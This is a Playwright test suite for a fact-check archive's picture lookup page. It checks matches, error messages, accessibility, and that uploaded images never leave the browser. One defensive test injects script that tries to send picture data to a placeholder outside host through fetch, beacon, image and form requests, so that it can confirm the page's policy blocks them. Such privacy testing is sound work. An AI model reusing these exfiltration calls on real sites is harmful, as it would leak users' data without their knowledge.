"""The page to ask on whether a picture has been checked: by mouse, keys and clipboard, and what leaves it."""

from __future__ import annotations

import base64
import re
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Locator, Page, Request, Route, expect

from tests import lookup_archive as archive
from tests.browser.inspection import (
    PAINTED,
    PHONE,
    WIDE,
    access_problems,
    keyboard_problems,
    named,
    reflow_problems,
)
from tests.browser.looking_up import CROP, DESCRIBED, IN_BROWSER, MIRROR, STRANGER, expected, files, jpeg
from tests.browser.tools import Kind, OpenPage, Watch


@pytest.fixture
def asking(borrow_page: OpenPage, check_url: str) -> Page:
    page = borrow_page()
    page.goto(f"{check_url}/check/")
    return page


def choose(page: Page, content: bytes, name: str = "picture.jpg") -> None:
    page.locator(".check-file").set_input_files({"name": name, "mimeType": "image/jpeg", "buffer": content})


def hand_over(page: Page, content: bytes, how: str) -> None:
    """Drop or paste a picture, as the browser would report it."""
    page.evaluate(
        """([content, how]) => {
          const bytes = Uint8Array.from(atob(content), (letter) => letter.charCodeAt(0));
          const files = new DataTransfer();
          files.items.add(new File([bytes], "picture.jpg", { type: "image/jpeg" }));
          const options = { bubbles: true, cancelable: true, dataTransfer: files, clipboardData: files };
          const event = how === "paste" ? new ClipboardEvent(how, options) : new DragEvent(how, options);
          document.querySelector(".check-drop").dispatchEvent(event);
        }""",
        [base64.b64encode(content).decode(), how],
    )


def status(page: Page) -> Locator:
    return page.get_by_role("status")


# ---------------------------------------------------------------------------------------- before it is there


@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["desktop", "phone"])
def test_nothing_moves_when_a_late_script_has_come(
    borrow_page: OpenPage, check_url: str, size: dict[str, int]
) -> None:
    page = borrow_page(viewport=size)
    held: list[Route] = []

    def hold(route: Route) -> None:
        held.append(route)

    late = re.compile(r"/picture-check-\w+\.js$")
    page.route(late, hold)
    with page.expect_request(late):
        page.goto(f"{check_url}/check/", wait_until="commit")
    page.evaluate(PAINTED)
    below, words = page.locator(".check-sent"), page.locator(".check-without")
    expect(words).to_be_visible()
    before = below.bounding_box()
    held.pop().continue_()
    expect(page.get_by_role("button", name="Choose a picture")).to_be_visible()
    expect(words).to_be_hidden()
    assert below.bounding_box() == before


# ------------------------------------------------------------------------------------------ what is found


@pytest.mark.parametrize("how", ["drop", "paste", "choose"])
def test_a_part_of_a_claimed_picture_is_found(asking: Page, how: str) -> None:
    if how == "choose":
        choose(asking, CROP)
    else:
        hand_over(asking, CROP, how)
    expect(status(asking)).to_have_text("Cases found: 1")
    result = asking.locator(".check-result")
    expect(result.locator("h2")).to_have_text("A claimed cloud")
    expect(result.locator(".card-verdict")).to_have_text("False")
    expect(result.locator(".check-role")).to_contain_text("The claimed picture")
    expect(result.locator(".check-why")).to_have_text(
        re.compile(r"Your picture shows a part of it\. Sure: \d+ details are in the same places\.")
    )
    expect(result.get_by_role("img", name="A cloud with corners")).to_be_visible()
    result.get_by_role("link", name="See it in the case").click()
    asking.wait_for_url("**/cases/shared/#media-seen")


def test_a_mirror_image_is_found_and_named(asking: Page) -> None:
    choose(asking, MIRROR)
    expect(asking.locator(".check-why")).to_contain_text("Yours is its mirror image.")


def test_a_covered_picture_is_named_and_not_shown(asking: Page) -> None:
    choose(asking, jpeg(archive.picture(archive.COVERED)))
    result = asking.locator(".check-result")
    expect(result).to_contain_text("This picture starts covered.")
    expect(result.get_by_role("img")).to_have_count(0)


@pytest.mark.parametrize("seed", [archive.DRAFT, archive.SCHEMATIC, 50])
def test_what_is_not_found_says_what_that_does_not_mean(asking: Page, seed: int) -> None:
    choose(asking, jpeg(archive.picture(seed)))
    expect(status(asking)).to_have_text("It was not found here")
    expect(asking.get_by_text("That does not mean that it is real")).to_be_visible()
    # It is said to screen readers, and stands on the page once.
    expect(asking.get_by_role("heading", name="It was not found here")).to_be_visible()
    box = status(asking).bounding_box()
    assert box
    assert box["height"] == 1
    expect(asking.locator(".check-result")).to_have_count(0)


# --------------------------------------------------------------------------------------- nothing is sent


def leaks(requests: list[Request], url: str) -> list[str]:
    """Return what a page asked for that is no file of the archive's, or that carries something."""
    allowed = re.compile(r"/(ar/)?check/|/assets/.*|/lookup/[\w.-]+|/cases/[\w-]+/lookup\.json|/media/.*")
    return [
        f"{request.method} {request.url}"
        for request in requests
        if request.method != "GET"
        or request.post_data
        or urlsplit(request.url).query
        or not request.url.startswith(f"{url}/")
        or not allowed.fullmatch(urlsplit(request.url).path)
    ]


def test_nothing_of_a_picture_leaves_the_page(open_page: OpenPage, check_url: str) -> None:
    """Whatever was asked, only files of the archive are fetched; for a stranger, the same as for another."""
    page = open_page()
    requests: list[Request] = []

    def note(request: Request) -> None:
        requests.append(request)

    page.on("request", note)
    page.goto(f"{check_url}/check/")
    for content, words in ((CROP, "Cases found: 1"), (STRANGER, "It was not found here")):
        choose(page, content)
        expect(status(page)).to_have_text(words)
    assert not (problems := leaks(requests, check_url)), named(problems)
    assert sum("/lookup/" in request.url for request in requests) == 3
    assert not page.context.cookies()
    assert page.evaluate("() => localStorage.length + sessionStorage.length") == 0


@pytest.mark.parametrize(
    "request_",
    ["fetch('/check/?bits=1')", "fetch('/lookup/bits.bin', { method: 'POST', body: 'bits' })"],
    ids=["query", "body"],
)
def test_a_request_to_the_own_host_that_carries_something_would_be_seen(asking: Page, request_: str) -> None:
    """The check above turns red for what no policy can forbid."""
    requests: list[Request] = []

    def note(request: Request) -> None:
        requests.append(request)

    asking.on("request", note)
    asking.route("**/*bits*", lambda route: route.fulfill(status=204))
    asking.evaluate(f"() => {request_}.then(() => null)")
    asking.remove_listener("request", note)
    host = f"http://{urlsplit(asking.url).netloc}"
    assert len(leaks(requests, host)) == 1


@pytest.mark.parametrize("how", ["fetch", "beacon", "image", "form"])
def test_the_policy_stops_what_would_send_it_elsewhere(
    borrow_page: OpenPage, watch: Watch, check_url: str, how: str
) -> None:
    """The check of the requests above turns red, or the browser refuses, whatever a script tried."""
    watch.expect(Kind.CONSOLE_ERROR)
    watch.expect(Kind.POLICY_VIOLATION)
    if how == "image":
        # Chromium tells of this one, too, before it refuses it.
        watch.expect(Kind.THIRD_PARTY_REQUEST)
    page = borrow_page()
    page.goto(f"{check_url}/check/")
    arrived: list[str] = []

    def answer(route: Route) -> None:
        arrived.append(route.request.url)
        route.fulfill(status=204)

    page.route("http://elsewhere.test/**", answer)
    page.evaluate(
        """(how) => {
          const to = "http://elsewhere.test/?picture";
          if (how === "fetch") return fetch(to).catch(() => null);
          if (how === "beacon") return navigator.sendBeacon(to, "picture");
          if (how === "image") return void (new Image().src = to);
          const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
          document.body.append(form);
          form.submit();
        }""",
        how,
    )
    page.wait_for_timeout(100)
    assert arrived == []


# -------------------------------------------------------------------------------------------- in trouble


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (b"these are words", "notes.txt", "This is no picture that your browser can read"),
        (CROP[:300], "damaged.jpg", "This is no picture that your browser can read"),
        (
            jpeg(Image.new("RGB", (300, 200), "grey")),
            "plain.jpg",
            "This picture is too plain to be told from others",
        ),
    ],
)
def test_what_cannot_be_compared_is_told(asking: Page, content: bytes, name: str, words: str) -> None:
    choose(asking, content, name)
    expect(status(asking)).to_have_text(words)
    expect(asking.get_by_role("heading", name=words)).to_be_visible()


def test_a_file_that_is_too_large_is_not_read(asking: Page) -> None:
    asking.evaluate(
        """() => {
          const files = new DataTransfer();
          const file = new File(["x"], "huge.jpg", { type: "image/jpeg" });
          Object.defineProperty(file, "size", { value: 65 * 1024 * 1024 });
          Object.defineProperty(document.querySelector(".check-file"), "files", { value: [file], configurable: true });
          document.querySelector(".check-file").dispatchEvent(new Event("change"));
        }"""
    )
    expect(status(asking)).to_have_text("This picture is too large")


@pytest.mark.parametrize("lost", ["**/lookup/index.json", "**/lookup/words-*", "**/lookup.json"])
def test_an_index_that_does_not_arrive_is_told(
    borrow_page: OpenPage, watch: Watch, check_url: str, lost: str
) -> None:
    """A failure never looks like a picture that nobody has checked; trying again is enough."""
    watch.expect(Kind.CONSOLE_ERROR)
    page = borrow_page()

    def lose(route: Route) -> None:
        route.abort("internetdisconnected")

    page.route(lost, lose)
    page.goto(f"{check_url}/check/")
    choose(page, CROP)
    expect(status(page)).to_have_text("The index of pictures cannot be used now")
    expect(page.get_by_text("It was not found here")).to_be_hidden()
    page.unroute(lost, lose)
    page.get_by_role("button", name="Try again").click()
    expect(status(page)).to_have_text("Cases found: 1")


def test_an_archive_without_pictures_says_so(borrow_page: OpenPage, empty_url: str) -> None:
    page = borrow_page()
    page.goto(f"{empty_url}/check/")
    choose(page, CROP)
    expect(status(page)).to_have_text("No picture of this archive can be compared yet")
    expect(page.get_by_text("A drawing that stands for a picture cannot be compared")).to_be_visible()


# --------------------------------------------------------------------------------- every reader, any page


@pytest.mark.parametrize("language", ["", "/ar"])
def test_answers_are_for_every_reader(borrow_page: OpenPage, check_url: str, language: str) -> None:
    """On a telephone, with keys alone, to a screen reader and from right to left."""
    page = borrow_page(viewport=PHONE)
    page.goto(f"{check_url}{language}/check/")
    choose(page, CROP)
    expect(page.locator(".check-result")).to_be_visible()
    problems = [*access_problems(page), *reflow_problems(page), *keyboard_problems(page)]
    assert not problems, named(problems)


def test_a_picture_is_chosen_with_keys(open_page: OpenPage, check_url: str) -> None:
    page = open_page()
    # The browser hands over a chooser only from some moment after the first listener; nothing says from which.
    page.on("filechooser", lambda _: None)
    page.goto(f"{check_url}/check/")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Choose a picture").press("Enter")
    assert chooser.value.element.get_attribute("accept") == "image/*"


def test_without_script_the_page_leads_to_the_lists(borrow_page: OpenPage, check_url: str) -> None:
    page = borrow_page(viewport=PHONE, java_script_enabled=False)
    page.goto(f"{check_url}/")
    page.get_by_role("link", name="Has this picture been checked?").click()
    expect(page.locator("picture-check")).to_be_hidden()
    expect(page.get_by_text("Comparing needs JavaScript.")).to_be_visible()
    page.locator(".check-ways").get_by_role("link", name="Topics").click()
    page.wait_for_url("**/topics/")


# ------------------------------------------------------------------------------------- the same in both


def test_python_and_the_browser_agree(asking: Page) -> None:
    """Given the same pixels: on every bit of what a picture is known by, and on every number of a match."""
    scripts = [
        asking.evaluate(
            "(name) => performance.getEntriesByType('resource').find(({ name: url }) => url.includes(name)).name",
            name,
        )
        for name in ("lookup-match", "lookup-fingerprint")
    ]
    answer = asking.evaluate(IN_BROWSER, [*scripts, files(DESCRIBED)])
    assert answer == expected(DESCRIBED)
    assert answer[1][0][2]
